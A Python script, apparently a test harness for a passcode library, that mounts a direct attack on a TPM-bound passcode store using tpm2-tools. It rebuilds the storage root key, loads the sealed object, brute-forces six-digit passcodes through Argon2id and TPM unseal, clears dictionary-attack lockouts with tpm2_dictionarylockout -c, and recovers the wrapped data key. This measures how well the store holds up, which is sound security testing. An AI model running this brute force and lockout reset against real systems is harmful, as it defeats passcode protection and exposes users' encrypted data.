#!/usr/bin/env python3
"""The direct attack on a TPM-bound store, as a second process with tpm2-tools: what
someone who can reach the TPM (root, or the `tss` group) and read the store file does, going
around the library and its counters entirely.

  tpm_direct_attack.py STORE TCTI RIGHT WRONG_COUNT [--clear-lockout] [--srk HANDLE]

It reads the sealed object's blobs from the file, rebuilds the storage root key (or, with --srk,
uses one persisted at HANDLE, as systemd's tpm2-setup does), loads the object, and guesses
WRONG_COUNT wrong passcodes and then RIGHT: per guess one Argon2id (the store's parameters, no
pepper) and one unseal with the authorization it gives. A store whose check goes through a
PIN_FAIL index (`tpmpin` in the verifier) is guessed through TPM2_PolicySecret on that index.
With --clear-lockout it runs `tpm2_dictionarylockout -c` whenever the TPM refuses for its lockout.
When the unseal works it opens the data key's wrap with the secret, to show the key recovered.

The last line is the tally: `RESULT answered=N clears=N found=0|1 key=0|1 stopped=WHY`.
"""
import base64
import ctypes
import ctypes.util
import hashlib
import os
import shutil
import sqlite3
import subprocess
import sys
import tempfile

sodium = ctypes.CDLL(ctypes.util.find_library("sodium") or "libsodium.so.23")


def b64(text):
    return base64.b64decode(text + "=" * (-len(text) % 4))


def argon2id(secret, salt, ops, mem):
    out = ctypes.create_string_buffer(32)
    rc = sodium.crypto_pwhash(out, ctypes.c_ulonglong(32), secret, ctypes.c_ulonglong(len(secret)), salt,
                              ctypes.c_ulonglong(ops), ctypes.c_size_t(mem), ctypes.c_int(2))
    if rc != 0:
        sys.exit("argon2id failed")
    return out.raw


def unwrap(blob, key, ad):
    out = ctypes.create_string_buffer(len(blob))
    n = ctypes.c_ulonglong(0)
    rc = sodium.crypto_aead_xchacha20poly1305_ietf_decrypt(out, ctypes.byref(n), None, blob[24:], ctypes.c_ulonglong(len(blob) - 24),
                                                           ad, ctypes.c_ulonglong(len(ad)), blob[:24], key)
    return out.raw[:n.value] if rc == 0 else None


def tpm(tcti, *args):
    env = dict(os.environ, TSS2_LOG="all+none")
    return subprocess.run(["tpm2_" + args[0], "-T", tcti, *args[1:]], capture_output=True, env=env)


def main():
    args = sys.argv[1:]
    clear = "--clear-lockout" in args
    srk = None
    if "--srk" in args:
        srk = args[args.index("--srk") + 1]
        del args[args.index("--srk"):args.index("--srk") + 2]
    args = [a for a in args if a != "--clear-lockout"]
    path, tcti, right, wrong_count = args[0], args[1], args[2], int(args[3])

    verifier = sqlite3.connect(path).execute("SELECT verifier FROM passcode").fetchone()[0]
    prefix = "$pcwrap$v=1$"
    work = tempfile.mkdtemp(prefix="passcode-attack-30-")
    try:
        attack(verifier, prefix, tcti, right, wrong_count, clear, srk, work)
    finally:
        shutil.rmtree(work, ignore_errors=True)


def attack(verifier, prefix, tcti, right, wrong_count, clear, srk, work):
    parts = verifier[len(prefix):].split("$")
    fields = parts[0].split(",")
    ops, mem = int(fields[1][4:]), int(fields[2][4:])
    mode = fields[3]
    salt, wrap, unique, private = b64(parts[1]), b64(parts[2]), b64(parts[3]), b64(parts[4])
    header = (prefix + parts[0] + "$" + parts[1]).encode()
    policy = b""
    attributes = 0x52  # fixedTPM | fixedParent | userWithAuth
    if mode == "tpmpin":
        index = "0x" + parts[5]
        out = tpm(tcti, "nvreadpublic", index)
        name = next(l.split(":", 1)[1].strip() for l in out.stdout.decode().splitlines() if l.strip().startswith("name:"))
        digest = hashlib.sha256(bytes(32) + (0x151).to_bytes(4, "big") + bytes.fromhex(name)).digest()
        policy = hashlib.sha256(digest).digest()  # PolicySecret, then its (empty) policyRef
        attributes = 0x12  # fixedTPM | fixedParent: the policy only
    public = ((0x0008).to_bytes(2, "big") + (0x000B).to_bytes(2, "big") + attributes.to_bytes(4, "big")
              + len(policy).to_bytes(2, "big") + policy + (0x0010).to_bytes(2, "big")
              + len(unique).to_bytes(2, "big") + unique)
    with open(f"{work}/seal.pub", "wb") as f:
        f.write(len(public).to_bytes(2, "big") + public)
    with open(f"{work}/seal.priv", "wb") as f:
        f.write(len(private).to_bytes(2, "big") + private)

    answered = clears = found = key = 0
    stopped = "done"

    def tally():
        print(f"RESULT answered={answered} clears={clears} found={found} key={key} stopped={stopped}", flush=True)

    parent = srk
    if parent is None:
        out = tpm(tcti, "createprimary", "-C", "o", "-g", "sha256", "-G", "ecc256:aes128cfb", "-a",
                  "fixedtpm|fixedparent|sensitivedataorigin|userwithauth|restricted|decrypt|noda", "-c", f"{work}/primary.ctx")
        if out.returncode != 0:
            print("  cannot rebuild the storage root key: " + out.stderr.decode().strip().splitlines()[-1])
            stopped = "no-primary"
            return tally()
        parent = f"{work}/primary.ctx"
    # swtpm has no resource manager: what each tool loaded stays until flushed (3 slots)
    tpm(tcti, "flushcontext", "-t")
    out = tpm(tcti, "load", "-C", parent, "-u", f"{work}/seal.pub", "-r", f"{work}/seal.priv", "-c", f"{work}/seal.ctx")
    if out.returncode != 0:
        print("  cannot load the sealed object: " + out.stderr.decode().strip().splitlines()[-1])
        stopped = "no-load"
        return tally()
    tpm(tcti, "flushcontext", "-t")

    guesses = []
    n = 100000
    while len(guesses) < wrong_count:
        n += 7907
        g = "%06d" % (n % 1000000)
        if g != right:
            guesses.append(g)
    guesses.append(right)
    i = 0
    retried = False
    while i < len(guesses):
        guess = guesses[i]
        stretched = argon2id(guess.encode(), salt, ops, mem)
        auth = hashlib.blake2b(b"libpasscode tpm auth v1", key=stretched, digest_size=32).hexdigest()
        if mode == "tpmpin":
            tpm(tcti, "flushcontext", "-s")
            tpm(tcti, "startauthsession", "--policy-session", "-S", f"{work}/policy.ctx")
            out = tpm(tcti, "policysecret", "-S", f"{work}/policy.ctx", "-c", index, "hex:" + auth)
            if out.returncode == 0:
                out = tpm(tcti, "unseal", "-c", f"{work}/seal.ctx", "-p", f"session:{work}/policy.ctx")
        else:
            out = tpm(tcti, "unseal", "-c", f"{work}/seal.ctx", "-p", "hex:" + auth)
        err = out.stderr.decode()
        tpm(tcti, "flushcontext", "-t")
        if out.returncode == 0 and len(out.stdout) == 32:
            answered += 1
            found = 1
            secret = out.stdout
            kek = hashlib.blake2b(b"libpasscode tpm kek v1" + secret, key=stretched, digest_size=32).digest()
            key = 1 if unwrap(wrap, kek, header) is not None else 0
            print(f"  guess {answered}: {guess} FOUND, data key {'recovered' if key else 'not opened'}")
            break
        if "0x9A2" in err or "0x98E" in err or "0x8E" in err.split("(")[-1][:6]:
            answered += 1
            retried = False
            print(f"  guess {answered}: {guess} wrong")
            i += 1
            continue
        locked = "0x921" in err
        limited = "0x12F" in err
        if (locked or limited) and clear and not retried:
            ok = tpm(tcti, "dictionarylockout", "-c").returncode == 0
            print(f"  {'lockout' if locked else 'PIN_FAIL limit'}: tpm2_dictionarylockout -c {'cleared it' if ok else 'refused'}")
            if ok:
                clears += 1
            retried = True
            continue
        stopped = "lockout" if locked else "pin-limit" if limited else "error"
        print(f"  stopped after {answered} answered guesses: " + (err.strip().splitlines() or ["?"])[-1])
        break
    tpm(tcti, "flushcontext", "-s")
    tally()


if __name__ == "__main__":
    main()
